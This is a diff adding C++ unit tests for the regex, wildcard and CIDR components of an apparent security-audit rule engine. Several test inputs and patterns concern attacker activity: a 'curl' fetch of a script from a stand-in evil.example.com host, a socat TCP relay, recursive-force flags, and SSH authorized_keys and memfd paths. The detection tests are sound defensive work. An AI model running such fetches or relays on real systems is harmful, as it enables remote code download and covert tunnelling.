@@ -1,0 +1,261 @@
+// The regex engine, wildcard patterns and CIDR parsing on their own.
+#include <boost/test/unit_test.hpp>
+#include <chrono>
+#include <string>
+
+#include "eql/cidr.h"
+#include "eql/regex.h"
+#include "eql/wildcard.h"
+
+using namespace auditeql::eql;
+
+namespace {
+
+struct RegexCase {
+  const char* pattern;
+  const char* input;
+  bool case_insensitive;
+  bool expected;
+};
+
+bool regex_matches(const char* pattern, std::string_view input, bool ci = false) {
+  return Regex::compile(pattern, ci).matches(input);
+}
+
+}  // namespace
+
+BOOST_AUTO_TEST_SUITE(eql_regex)
+
+BOOST_AUTO_TEST_CASE(syntax_and_anchoring) {
+  const RegexCase cases[] = {
+      {"abc", "abc", false, true},
+      {"abc", "abcd", false, false},  // whole value only
+      {"abc", "xabc", false, false},
+      {"", "", false, true},
+      {"", "a", false, false},
+      {"a.c", "abc", false, true},
+      {"a.c",
+       "a\xC3\xA9"
+       "c",
+       false, true},  // . is one code point
+      {"a..c",
+       "a\xC3\xA9"
+       "c",
+       false, false},
+      {"a*", "", false, true},
+      {"a*", "aaaa", false, true},
+      {"a+", "", false, false},
+      {"ab?c", "ac", false, true},
+      {"ab?c", "abbc", false, false},
+      {"a{3}", "aaa", false, true},
+      {"a{3}", "aa", false, false},
+      {"a{2,}", "aaaaa", false, true},
+      {"a{2,}", "a", false, false},
+      {"a{1,3}", "aaa", false, true},
+      {"a{1,3}", "aaaa", false, false},
+      {"a{0,2}b", "b", false, true},
+      {"(ab)+", "ababab", false, true},
+      {"(ab)+", "ababa", false, false},
+      {"cat|dog", "dog", false, true},
+      {"cat|dog", "cow", false, false},
+      {"(a|b)(c|d)", "bd", false, true},
+      {"x(|y)z", "xz", false, true},
+      {"()", "", false, true},
+      {"[abc]+", "cab", false, true},
+      {"[a-z0-9_]+", "ab_9", false, true},
+      {"[a-z]", "A", false, false},
+      {"[^-]*", "abc", false, true},
+      {"[^-]*", "a-c", false, false},
+      {"[]a]+", "]a]", false, true},
+      {"[a-]+", "a-a", false, true},
+      {"[\\]]", "]", false, true},
+      {"[\\d.]+", "1.2", false, true},
+      {"\\d+", "2024", false, true},
+      {"\\d", "x", false, false},
+      {"\\w+", "abc_9", false, true},
+      {"\\w", "-", false, false},
+      {"\\s", "\t", false, true},
+      {"\\S+", "a b", false, false},
+      {"\\D\\W", "a-", false, true},
+      {"\\.", ".", false, true},
+      {"\\.", "x", false, false},
+      {"a\\*b", "a*b", false, true},
+      {"\\n", "n", false, true},    // Lucene: an escaped letter is the letter
+      {"^a$", "^a$", false, true},  // no anchors in Lucene syntax
+      {"^a$", "a", false, false},
+      {"\"a.b\"", "a.b", false, true},  // quoted literal
+      {"\"a.b\"", "axb", false, false},
+      {"@", "anything at all", false, true},
+      {"a@", "a", false, true},
+      {"#|x", "x", false, true},
+      {"#", "", false, false},
+      {"abc", "ABC", true, true},
+      {"[a-c]+", "AbC", true, true},
+      {"[^a]", "A", true, false},  // negation applies after case folding
+      {"\\w+", "ABC", true, true},
+      {"ABC", "abc", false, false},
+      {"-[^-]*[uz][^-]*", "-fuv", false, true},
+      {"-[^-]*[uz][^-]*", "-fv", false, false},
+      {"-[A-NP-Za-np-z][A-Za-z]*[RLDwW][A-Za-z]*", "-rfR", false, true},
+      {"php?[0-9]?\\.?[0-9]{0,2}", "php8.1", true, true},
+      {"php?[0-9]?\\.?[0-9]{0,2}", "ph", true, true},
+      {"php?[0-9]?\\.?[0-9]{0,2}", "python3", true, false},
+      {"/var/run/\\w+\\.(pid|lock|reboot)", "/var/run/sshd.pid", false, true},
+      {"\\.[a-z0-9_\\-][a-z0-9_\\-\\.]{1,254}", ".hidden", false, true},
+      {"\\.[a-z0-9_\\-][a-z0-9_\\-\\.]{1,254}", ".h", false, false},
+      {".*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}:[0-9]{1,5}:[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,"
+       "3}:[0-9]{1,5}.*",
+       "socat tcp:10.0.0.1:80:10.0.0.2:8080 x", false, true},
+      {".*[A-Za-z0-9][A-Za-z0-9\\-]*(\\.[A-Za-z0-9][A-Za-z0-9\\-]*)+(:[0-9]{1,5})?\\/[^ ]+.*",
+       "curl http://evil.example.com:8080/x.sh", false, true},
+      {".*[A-Za-z0-9][A-Za-z0-9\\-]*(\\.[A-Za-z0-9][A-Za-z0-9\\-]*)+(:[0-9]{1,5})?\\/[^ ]+.*", "ls -la", false, false},
+      {"/[a-z0-9\\s_\\-\\\\./]+\\s", "/tmp/x ", false, true},
+  };
+  for (const RegexCase& c : cases) {
+    BOOST_TEST_CONTEXT("pattern " << c.pattern << " on '" << c.input << "'") {
+      BOOST_TEST(regex_matches(c.pattern, c.input, c.case_insensitive) == c.expected);
+    }
+  }
+}
+
+BOOST_AUTO_TEST_CASE(invalid_patterns_are_rejected) {
+  const char* bad[] = {
+      "a(b",
+      "a)b",
+      "(",
+      "[abc",
+      "[z-a]",
+      "a{2",
+      "a{3,1}",
+      "a{x}",
+      "*a",
+      "+",
+      "a|*",
+      "\\",
+      "a{1001}",
+      "a{0,1001}",
+      "(a{1000}){1000}",
+      "a&b",
+      "~a",
+      "<1-5>",
+      "\"unterminated",
+  };
+  for (const char* pattern : bad) {
+    BOOST_TEST_CONTEXT("pattern " << pattern) {
+      BOOST_CHECK_THROW(Regex::compile(pattern, false), RegexError);
+    }
+  }
+  try {
+    Regex::compile("ab(cd", false);
+    BOOST_FAIL("expected RegexError");
+  } catch (const RegexError& e) {
+    BOOST_TEST(e.char_index == 2u);
+  }
+  const std::string deep = std::string(5000, '(') + "a" + std::string(5000, ')');
+  BOOST_CHECK_THROW(Regex::compile(deep, false), RegexError);
+  BOOST_CHECK_NO_THROW(Regex::compile(std::string(100, '(') + "a" + std::string(100, ')'), false));
+  BOOST_CHECK_NO_THROW(Regex::compile("a{1000}", false));
+}
+
+BOOST_AUTO_TEST_CASE(pathological_patterns_run_in_linear_time) {
+  const std::string as(10000, 'a');
+  const auto start = std::chrono::steady_clock::now();
+  BOOST_TEST(regex_matches("(a*)*b", as) == false);
+  BOOST_TEST(regex_matches("(a|a)*b", as) == false);
+  BOOST_TEST(regex_matches("(a|aa)*c", as) == false);
+  BOOST_TEST(regex_matches("(a+)+", as) == true);
+  BOOST_TEST(regex_matches("(.*)*(.*)*x", as) == false);
+  BOOST_TEST(regex_matches("(a?){30}a{30}", std::string(30, 'a')) == true);  // classic backtracking killer
+  const auto elapsed = std::chrono::steady_clock::now() - start;
+  BOOST_TEST(std::chrono::duration_cast<std::chrono::milliseconds>(elapsed).count() < 1000);
+}
+
+BOOST_AUTO_TEST_SUITE_END()
+
+BOOST_AUTO_TEST_SUITE(eql_wildcard)
+
+struct GlobCase {
+  const char* pattern;
+  const char* value;
+  bool fold;
+  bool expected;
+};
+
+BOOST_AUTO_TEST_CASE(glob_matching) {
+  const GlobCase cases[] = {
+      {"", "", false, true},
+      {"", "a", false, false},
+      {"*", "", false, true},
+      {"**", "abc", false, true},
+      {"abc", "abc", false, true},
+      {"abc", "ABC", false, false},
+      {"abc", "ABC", true, true},
+      {"a*", "a", false, true},
+      {"*a", "a", false, true},
+      {"a*a", "a", false, false},  // prefix and suffix may not overlap
+      {"a*a", "aa", false, true},
+      {"a*b*c", "abc", false, true},
+      {"a*b*c", "acb", false, false},
+      {"*a*b*", "xxaxxbxx", false, true},
+      {"*a*b*", "xxbxxaxx", false, false},
+      {"*ab*ab*", "abab", false, true},
+      {"*ab*ab*", "aba", false, false},
+      {"?", "", false, false},
+      {"?", "\xC3\xA9", false, true},
+      {"??", "\xC3\xA9", false, false},
+      {"*?", "\xE2\x82\xAC", false, true},
+      {"?*?", "\xE2\x82\xAC", false, false},
+      {"h?llo*", "h\xC3\xA9llo world", false, true},
+      {"*l?o", "h\xC3\xA9llo", false, true},
+      {"*\xC3\xA9*", "caf\xC3\xA9s", false, true},
+      {"c:\\windows\\*", "C:\\Windows\\System32", true, true},
+      {"a\\*", "a\\bc", false, true},  // backslash is an ordinary character
+      {"a\\*", "a*", false, false},
+      {"/proc/*/fd/*", "/proc/123/fd/4", false, true},
+      {"/proc/*/fd/*", "/proc/123/fdx/4", false, false},
+      {"*/.ssh/authorized_keys*", "/root/.ssh/authorized_keys2", false, true},
+      {"*?memfd:*", "/memfd:x (deleted)", false, true},
+      {"?memfd:*", "memfd:x", false, false},
+  };
+  for (const GlobCase& c : cases) {
+    BOOST_TEST_CONTEXT("pattern '" << c.pattern << "' on '" << c.value << "'") {
+      BOOST_TEST(WildcardPattern(c.pattern, c.fold).matches(c.value) == c.expected);
+    }
+  }
+  BOOST_TEST(WildcardPattern("abc", false).is_literal());
+  BOOST_TEST(!WildcardPattern("a?c", false).is_literal());
+}
+
+BOOST_AUTO_TEST_SUITE_END()
+
+BOOST_AUTO_TEST_SUITE(eql_cidr)
+
+BOOST_AUTO_TEST_CASE(addresses_and_blocks) {
+  BOOST_TEST(parse_ip("10.0.0.1").has_value());
+  BOOST_TEST(parse_ip("::1").has_value());
+  BOOST_TEST(parse_ip("fe80::1%eth0").has_value());
+  BOOST_TEST(!parse_ip("10.0.0").has_value());
+  BOOST_TEST(!parse_ip("10.0.0.256").has_value());
+  BOOST_TEST(!parse_ip("").has_value());
+  BOOST_TEST(!parse_ip("banana").has_value());
+  BOOST_TEST(!parse_cidr("10.0.0.0/33").has_value());
+  BOOST_TEST(!parse_cidr("::/129").has_value());
+  BOOST_TEST(!parse_cidr("10.0.0.0/").has_value());
+  BOOST_TEST(!parse_cidr("10.0.0.0/8x").has_value());
+
+  const auto block = parse_cidr("172.16.0.0/12");
+  BOOST_REQUIRE(block.has_value());
+  BOOST_TEST(block->contains(*parse_ip("172.31.255.255")));
+  BOOST_TEST(!block->contains(*parse_ip("172.32.0.0")));
+  BOOST_TEST(parse_cidr("10.1.2.3/8")->contains(*parse_ip("10.200.0.1")));  // host bits ignored
+  BOOST_TEST(parse_cidr("0.0.0.0/0")->contains(*parse_ip("8.8.8.8")));
+  BOOST_TEST(!parse_cidr("0.0.0.0/0")->contains(*parse_ip("2001:db8::1")));
+  BOOST_TEST(parse_cidr("::/0")->contains(*parse_ip("8.8.8.8")));  // IPv4 lives inside ::ffff:0:0/96
+  BOOST_TEST(parse_cidr("fe80::/10")->contains(*parse_ip("febf::1")));
+  BOOST_TEST(!parse_cidr("fe80::/10")->contains(*parse_ip("fec0::1")));
+  BOOST_TEST(parse_cidr("::1")->contains(*parse_ip("::1")));
+  BOOST_TEST(!parse_cidr("::1")->contains(*parse_ip("::2")));
+  BOOST_TEST(parse_cidr("192.0.0.8/32")->contains(*parse_ip("192.0.0.8")));
+}
+
+BOOST_AUTO_TEST_SUITE_END()
